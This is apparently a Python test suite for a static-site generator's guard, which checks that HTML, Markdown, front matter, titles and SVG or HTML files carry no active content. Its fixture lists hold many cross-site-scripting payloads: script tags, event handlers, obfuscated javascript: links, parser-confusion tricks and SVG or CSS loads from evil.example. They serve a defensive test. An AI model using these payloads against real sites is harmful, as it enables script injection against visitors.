"""The guard: nothing that can act gets past it, and nothing that the site writes is stopped by it."""

from __future__ import annotations

import html
from pathlib import PurePosixPath

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown import Markdown

from generator.guard import CHECKED, active_file, active_html, active_template, active_text, active_title
from generator.guard.pages import ATTRIBUTES, TAGS
from generator.markdown.verifying import SITE_EXTENSIONS
from generator.pictures.canvas import Canvas

ACTIVE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script",
    "<script ",
    "<p>text<scr\nipt>",
    "<scr\x00ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='\\\\evil.example/a'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='https://evil.example/a 1x'>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x0a;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61;vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<p style="background:url(//evil.example)">x</p>',
    '<p style="text-align: left; position: fixed">x</p>',
    '<p onclick="alert(1)">x</p>',
    "<p onmouseover=alert(1)>x</p>",
    "<iframe src=/a></iframe>",
    "<object data=a></object>",
    "<embed src=a>",
    "<form action=//evil.example><input><button>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>p { background: url(//evil.example) }</style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg><use href=//evil.example/a.svg#x /></svg>",
    "<svg><animate onbegin=alert(1)></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><img src=x onerror=alert(1)></noscript>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=//evil.example/a></audio>",
    "<textarea><script>alert(1)</script></textarea>",
    "<!--><script>alert(1)</script>-->",
    "<!---><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<!-- never closed",
    "<!DOCTYPE html>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<?xml-stylesheet href='//evil.example/a'?>",
    "<x-thing onclick=alert(1)>",
    "</p><script>alert(1)</script><p>",
    '<a href="a" formaction="b">x</a>',
    '<div contenteditable autofocus onfocus="alert(1)">x</div>',
    "<p is=x-thing>x</p>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    # What one parser takes for the value of an attribute, and a browser for an element or an attribute.
    '<p title="<!--" onclick="alert(1)" x="-->">x</p>',
    "<p title='<!--' onclick=alert(1) x='-->'>x</p>",
    '<title><p title="</title><img src=x onerror=alert(1)>"></p></title>',
    '<svg><title><title><p title="</title><img src=x onerror=alert(1)>"></p></title></title></svg>',
    '</p x="> <p title="><img src=x onerror=alert(1)> ">x</p>',
    '<p\xa0title="><img src=x onerror=alert(1)>">x</p>',
    '<p =title="><img src=x onerror=alert(1)>">x</p>',
    "<p title=a`b onclick=alert(1)>x</p>",
    # What themes print once more elsewhere, or take for their own.
    '<h2 id="a&quot;onmouseover=&quot;alert(1)">x</h2>',
    "<h2 id='a\"onmouseover=\"alert(1)'>x</h2>",
    '<h2 id="a&#39;onmouseover=&#39;alert(1)">x</h2>',
    '<h2 id="a&gt;&lt;img src=x&gt;">x</h2>',
    '<a href="https://github.com/a/b" data-md-component="source">x</a>',
    '<pre class="mermaid"><code>graph</code></pre>',
    '<pre class="a mermaid b"><code>graph</code></pre>',
]

HARMLESS = [
    "",
    "plain",
    "<p>2 &lt; 3 &amp; 4 &gt; 1, <em>so</em> it is.</p>",
    '<p id="a" class="b c">“Nobody,” he said.<sup id="fnref:x"><a class="d" href="#fn:x">1</a></sup></p>',
    '<a href="https://example.org/a#:~:text=one,two">x</a> <a href="../a.md#b">y</a>',
    '<a href="mailto:a@b.example">z</a> <a href="a/b:c" title="javascript:alert(1)">x</a>',
    '<img alt="Bars" src="pictures/quoted-words.svg">',
    '<table><thead><tr><th style="text-align: right;">A</th></tr></thead></table>',
    "<!-- a plain comment --><p>x</p>",
    '<details><summary>More</summary><p lang="ar" dir="rtl">x</p></details>',
    '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M4 4z"/></svg>',
    '<ol start="3"><li>x</li></ol><hr><time datetime="2024-10-23">then</time>',
    '<h2 id="fn:a-b_c.d">x</h2><p class="mermaids" data-preview data-x="1">y</p >',
    "<p title='a > b < c' lang=en>a > b</p><br />",
]


@pytest.mark.parametrize("content", ACTIVE)
def test_what_can_act_is_found(content: str) -> None:
    assert active_html(content)
    assert active_html(f"<p>before</p>{content}<p>after</p>")


@pytest.mark.parametrize("content", HARMLESS)
def test_what_cannot_act_is_not_found(content: str) -> None:
    assert active_html(content) == ()


@pytest.mark.parametrize(
    "title",
    [
        "&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;",
        "a &lt;!-- b",
        "<em>&lt;b onclick=x&gt;</em>",
        "</title><script>alert(1)</script>",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<em onclick=alert(1)>a</em>",
        "<svg/onload=alert(1)>",
        "<!-- a",
        'a" onmouseover="alert(1)',
        'a"><script>alert(1)</script>',
        'a" http-equiv="refresh',
    ],
)
def test_a_title_that_becomes_markup_in_the_head_is_found(title: str) -> None:
    assert active_title(title)


@pytest.mark.parametrize(
    "title",
    [
        *("Bridge closed", "2 &lt; 3", "<em>Bridge</em> closed", "AT&amp;T", "a < b > c", "It's a = b"),
        *('The "new" bridge', "&quot;a&quot; onmouseover=&quot;x", "“We saw smoke” <code>x</code>"),
    ],
)
def test_a_plain_title_is_not(title: str) -> None:
    assert active_title(title) is None


@pytest.mark.parametrize("title", ["&lt;script&gt;alert(1)&lt;/script&gt;", "a &lt;!-- b"])
def test_an_escaped_title_that_front_matter_states_is_plain(title: str) -> None:
    assert active_title(title, stated=True) is None
    assert active_title(html.unescape(title), stated=True)


PIECES = st.sampled_from(
    [
        *(
            "<",
            ">",
            "</",
            "/>",
            "<!--",
            "-->",
            "--!>",
            "<!",
            "<?",
            "]]>",
            "=",
            '"',
            "'",
            "`",
            " ",
            "\n",
            "\t",
            "\0",
        ),
        *(
            "&lt;",
            "&#60;",
            "&",
            ";",
            "script",
            "img",
            "svg",
            "math",
            "a",
            "p",
            "em",
            "style",
            "title",
            "table",
        ),
        *(
            "src",
            "href",
            "onerror",
            "style",
            "class",
            "id",
            "javascript:",
            "//e.example",
            "x",
            "alert(1)",
            "/",
        ),
    ]
)


HIDING = st.builds(
    "{}{}{}{}".format,
    st.sampled_from(["<p", "</p", "<a", "<title", "</title", "<svg", "<desc", "<textarea", "<em", "x"]),
    st.lists(
        st.builds(
            "{}{}{}{}".format,
            st.sampled_from([" ", " ", "\n", "/", "", "\xa0", "\f"]),
            st.sampled_from(["title", "onclick", "x", "=x", '"', "class", "id"]),
            st.sampled_from(["=", "=", "", " = "]),
            st.sampled_from(
                [
                    '"a"',
                    "'a'",
                    "a",
                    '"',
                    "'",
                    "`",
                    '"<!--"',
                    '"-->"',
                    '">"',
                    '"</title>"',
                    "'<img src=x>'",
                    ">",
                ]
            ),
        ),
        max_size=3,
    ).map("".join),
    st.sampled_from([">", ">", "/>", " >", ""]),
    st.sampled_from(["", "<img src=x onerror=alert(1)>", "<!-- a -->", "<!--", "-->", "x"]),
)
"""Tags that are not well formed, in whose attributes others may hide."""


@settings(max_examples=1_500, deadline=None)
@given(st.lists(HIDING, min_size=1, max_size=4).map("".join) | st.lists(PIECES, max_size=14).map("".join))
def test_what_gets_past_is_harmless_to_a_browsers_parser(content: str) -> None:
    if active_html(content):
        return
    fragment = html5lib.parseFragment(content, namespaceHTMLElements=False)
    for element in fragment.iter():
        if isinstance(element.tag, str) and element is not fragment:
            name = element.tag.rpartition("}")[2].lower()
            assert name in TAGS, content
            for attribute, value in element.attrib.items():
                plain = str(attribute).lower()
                assert plain in ATTRIBUTES or plain == "style" or plain.startswith(("aria-", "data-")), (
                    content
                )
                assert "javascript:" not in value.lower().replace(" ", "") or plain not in {"href", "src"}, (
                    content
                )


ATTRIBUTE = st.builds(
    '{}{}="{}"'.format,
    st.sampled_from([" ", " ", " ", "  ", "\n", "\t", "/"]),
    st.sampled_from([*sorted(ATTRIBUTES), "href", "HREF", "onclick", "style", "srcset", "data-md-x"]),
    st.sampled_from(
        [
            *(
                "",
                "a",
                "#a",
                "../a.md",
                "https://a.example/b",
                "//e.example",
                "javascript:x",
                ".&colon;x",
                "a:b",
            ),
            *(
                ".&colon;x",
                "/a",
                "a.svg",
                "text-align: right;",
                "&#106;avascript:x",
                "http:",
                "https:x",
                "\x01",
                "<b",
                ">",
                "'",
                "&quot;",
            ),
        ]
    ),
)
TAG = st.builds(
    "{}{}{}{}".format,
    st.sampled_from(["<", "<", "</", "<!", "a"]),
    st.sampled_from([*sorted(TAGS), "script", "style", "P", "xmp", "textarea", "title", "a-b", "preview"]),
    st.lists(ATTRIBUTE, max_size=3).map("".join),
    st.sampled_from([">", ">", ">", "/>", " />", " >", ""]),
)


@settings(max_examples=1_500, deadline=None)
@given(st.lists(TAG | st.sampled_from(["x", " ", "&lt;", ">", '"', "\0"]), max_size=5).map("".join))
def test_what_is_passed_at_a_glance_is_what_the_parser_passes(content: str) -> None:
    unhurried = f"<!-- plain -->{content}"
    assert bool(active_html(content)) == bool(active_html(unhurried))


@settings(max_examples=500, deadline=None)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_markdown_that_gets_past_is_harmless_too(content: str) -> None:
    rendered = Markdown(extensions=list(SITE_EXTENSIONS)).convert(content)
    if active_html(rendered):
        return
    fragment = html5lib.parseFragment(rendered, namespaceHTMLElements=False)
    elements = [e for e in fragment.iter() if e is not fragment and isinstance(e.tag, str)]
    assert {e.tag.rpartition("}")[2].lower() for e in elements} <= TAGS, content


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("description", '0;url=//evil.example" http-equiv="refresh'),
        ("description", 'a"><script>alert(1)</script>'),
        ("author", "<script>alert(1)</script>"),
        ("tags", ["water", "<img src=x onerror=alert(1)>"]),
        ("source", {"publisher": "</script><script>alert(1)</script>"}),
        ("x", [{"y": [{"z": "<b>"}]}]),
        ("description", b"<script>alert(1)</script>"),
        ("hide", {"<script>alert(1)</script>"}),
        ("source", {"<script>alert(1)</script>": "a"}),
        ("x", [{"y": {b"<b>": 1}}]),
    ],
)
def test_front_matter_that_becomes_markup_is_found(key: str, value: object) -> None:
    assert active_text(value, key)


@pytest.mark.parametrize(
    "value", [None, True, 3, "2 < 3", 'He said "no".', ["a", "b"], {"url": "https://a.example/?b=c"}, "a & b"]
)
def test_plain_front_matter_is_not(value: object) -> None:
    assert active_text(value, "key") is None


@pytest.mark.parametrize("template", ["redirect.html", "./Redirect.html", "a//redirect.html/"])
def test_a_template_that_writes_front_matter_into_a_script_is_found(template: object) -> None:
    assert active_template(template)


@pytest.mark.parametrize("template", [None, "main.html", "home.html", "redirected.html"])
def test_another_template_is_the_sites_own(template: object) -> None:
    assert active_template(template) is None


def svg(inner: str, attributes: str = "") -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg"{attributes}>{inner}</svg>'.encode()


ACTIVE_FILES = [
    ("a.svg", svg("<script>alert(1)</script>")),
    ("a.SVG", svg("<script>alert(1)</script>")),
    ("a.svg", svg("", ' onload="alert(1)"')),
    ("a.svg", svg("<rect ONCLICK='alert(1)'/>")),
    ("a.svg", svg("<foreignObject><body onload='x'/></foreignObject>")),
    ("a.svg", svg("<a href='javascript:alert(1)'><text>x</text></a>")),
    ("a.svg", svg("<use href='//evil.example/a.svg#x'/>")),
    ("a.svg", svg("<use xlink:href='data:image/svg+xml,x'/>")),
    ("a.svg", svg("<image href='https://pixel.example/a.gif'/>")),
    ("a.svg", svg("<set attributeName='href' to='javascript:alert(1)'/>")),
    ("a.svg", svg("<animate attributeName='href' values='javascript:alert(1)'/>")),
    ("a.svg", svg("<style>@import '//evil.example/a.css';</style>")),
    ("a.svg", svg("<style>rect { fill: url(//evil.example/a) }</style>")),
    ("a.svg", svg("<style>@\\69mport 'a'</style>")),
    ("a.svg", svg("<style><script>alert(1)</script></style>")),
    ("a.svg", svg("<rect fill='url(https://evil.example/a)'/>")),
    ("a.svg", svg("<rect style='background:url(//evil.example)'/>")),
    ("a.svg", svg("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>")),
    ("a.svg", svg("<![CDATA[<script>alert(1)</script>]]>")),
    ("a.svg", b'<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]>' + svg("&x;")),
    ("a.svg", b'<?xml-stylesheet href="//evil.example/a.xsl" type="text/xsl"?>' + svg("")),
    ("a.svg", svg("<script>alert(1)</script>").decode().encode("utf-16")),
    ("a.svg", svg("<scr\0ipt>")),
    ("a.html", b"<!doctype html><html><body><script>alert(1)</script></body></html>"),
    ("a.html", b"<html><body onload=alert(1)>x</body></html>"),
    ("a.html", b"<html><head><base href=//evil.example/></head></html>"),
    ("a.htm", b"<meta http-equiv=refresh content='0;url=//evil.example'>"),
    ("a.xhtml", b"<html xmlns='http://www.w3.org/1999/xhtml'/>"),
    ("a.xml", b"<?xml-stylesheet href='a.xsl'?><a/>"),
    ("a.svgz", b"\x1f\x8b"),
    ("a.svg", svg("<style>rect { mask: image-set('//evil.example/a' 1x) }</style>")),
    ("a.svg", svg("<style>rect { mask: -webkit-image-set('//evil.example/a' 1x) }</style>")),
    ("a.svg", svg("<rect style='mask:image(\"//evil.example/a\")'/>")),
    ("a.svg", svg("<style>@im<!-- x -->port '//evil.example/a.css';</style>")),
    ("a.svg", svg("<style>&#64;import '//evil.example/a.css';</style>")),
    ("a.svg", svg("<style/><style>@import '//evil.example/a.css';</style>")),
    ("a.html", b'<p title="<body lang="a><img src=x onerror=alert(1)>">x</p>'),
    ("a.html", b'<title><p title="</title><img src=x onerror=alert(1)>"></p>'),
    ("a.html", b"<meta charset=iso-2022-jp><p>x</p>"),
    ("a.html", b'<p title="\x1b$B"><img src=x onerror=alert(1)>\x1b(B">x</p>'),
    ("a.html", b"<html manifest=//evil.example/a><p>x</p></html>"),
    *((f"a.{kind}", b"<x/>") for kind in ("atom", "rss", "rdf", "xslt", "mathml", "shtml", "mht")),
]


@pytest.mark.parametrize(("name", "content"), ACTIVE_FILES)
def test_a_file_that_could_act_when_it_is_opened_is_found(name: str, content: bytes) -> None:
    assert PurePosixPath(name).suffix.lower() in CHECKED
    assert active_file(name, content)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.svg", svg("<title>A &lt; B</title><g class='a' fill='url(#b)'><path d='M0 0'/></g>")),
        ("a.svg", b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n' + svg("<rect/>")),
        (
            "a.svg",
            b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
            + svg("<use xlink:href='#a'/>"),
        ),
        ("a.svg", svg("<style>text{fill:#222}@media (prefers-color-scheme:dark){text{fill:#fff}}</style>")),
        (
            "a.html",
            b"<!DOCTYPE html>\n<html lang=en><head><meta charset=utf-8><title>A</title><body><p>x</p></html>",
        ),
    ],
)
def test_a_plain_drawing_or_page_is_not(name: str, content: bytes) -> None:
    assert active_file(name, content) == ()


def test_the_generators_own_pictures_are_plain() -> None:
    canvas = Canvas()
    canvas.text(1, 2, "A <b> & “c”", "small")
    canvas.rect(1, 2, 3, 4, "land")
    canvas.circle(1, 2, 3, "strong")
    canvas.path("M0 0L1 1", "line")
    assert active_file("a.svg", canvas.svg("Who said <what>", 100).encode()) == ()
